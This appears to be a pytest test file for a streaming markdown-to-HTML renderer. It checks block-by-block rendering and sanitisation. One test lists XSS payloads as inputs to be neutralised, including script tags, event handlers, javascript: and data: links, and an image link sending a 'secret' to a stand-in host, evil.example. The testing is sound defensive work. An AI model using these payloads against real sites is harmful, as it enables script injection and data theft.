"""Growing markdown as HTML, block by block (ANS-3)."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from query_api.markdown_stream import HtmlBlock, MarkdownStream

MARKDOWN = """# Descaling

Descale it **every three months** [1].

1. Fill the tank.
2. Add 20 g:

   ```sh
   descale --now  # <now>
   ```

| part | litres |
|---|---|
| tank | 1 |

> Rinse twice.

Title
-----
a < b & c
"""
PIECES = st.lists(
    st.sampled_from(["a", " ", "\n", "\n\n", "- ", "1. ", "# ", "```", "|", "---", "*", ">", "[1]", "=", "    "])
)


def _shown(pieces: list[str]) -> tuple[dict[int, HtmlBlock], list[HtmlBlock]]:
    """What a page shows at the end: the last block of each index; and all blocks that were sent."""
    growing = MarkdownStream()
    sent: list[HtmlBlock] = []
    for piece in pieces:
        growing.add(piece)
        sent += growing.changed()
    sent += growing.changed(is_complete=True)
    return {block.index: block for block in sent}, sent


def _whole(text: str) -> str:
    shown, _ = _shown([text])
    return "".join(block.html for block in shown.values())


@pytest.mark.parametrize("size", [1, 2, 7, 1000])
def test_blocks_grow_to_the_same_html_however_the_text_comes(size: int) -> None:
    """In pieces of any size; in the end every block is final."""
    shown, _ = _shown([MARKDOWN[at : at + size] for at in range(0, len(MARKDOWN), size)])
    assert "".join(block.html for block in shown.values()) == _whole(MARKDOWN)
    assert all(block.final for block in shown.values())
    assert list(shown) == list(range(7))
    assert "<strong>every three months</strong> [1]" in shown[1].html
    assert "descale --now  # &lt;now&gt;" in shown[2].html
    assert "<td>tank</td>" in shown[3].html


@settings(max_examples=150, deadline=None)
@given(PIECES)
def test_a_final_block_never_changes(pieces: list[str]) -> None:
    """Nothing is sent for an index after its final block; indexes count up; the last block of each is final."""
    shown, sent = _shown(pieces)
    over: set[int] = set()
    for block in sent:
        assert block.index not in over
        over |= {block.index} if block.final else set()
    assert over == set(range(len(over))) == set(shown)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/?leak=secret)",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href='https://evil.example' onclick='x()'>a</a>",
        '```"><script>alert(1)</script>\nx\n```',
        "<iframe src=//evil.example></iframe>\n\n<style>*{background:url(//evil.example)}</style>",
        "[1]: https://evil.example\n\nA fact [1].",
        "[click](//evil.example)",
        "[click](/api/v1/answers?delete=1)",
        "[click](\\x01javascript:alert(1))",
    ],
)
def test_nothing_in_an_answer_runs_or_loads(attack: str) -> None:
    """No script, no image, no handler, no other scheme; a reference does not turn markers into links (ANS-3)."""
    html = _whole(f"Before.\n\n{attack}\n\nAfter.")
    tags = re.findall(r"<[^>]*>", html)
    assert not re.search(
        r"<(?:script|img|iframe|style|a)\b", " ".join(tags).lower().replace('<a rel="noopener noreferrer">', "")
    ), html
    assert not any(re.search(r"\bon\w+=|javascript:|data:|url\(", tag) for tag in tags)
    assert "Before." in html
    assert "After." in html


def test_links_to_pages_stay() -> None:
    """With a `rel` that keeps the page that is opened from this one."""
    assert _whole("[docs](https://example.org/a)") == (
        '<p><a href="https://example.org/a" rel="noopener noreferrer">docs</a></p>\n'
    )


def test_an_image_becomes_its_text() -> None:
    """Loading it would tell its server who reads."""
    assert _whole("See ![the <b> pump](https://evil.example/p.png).") == "<p>See the &lt;b&gt; pump.</p>\n"
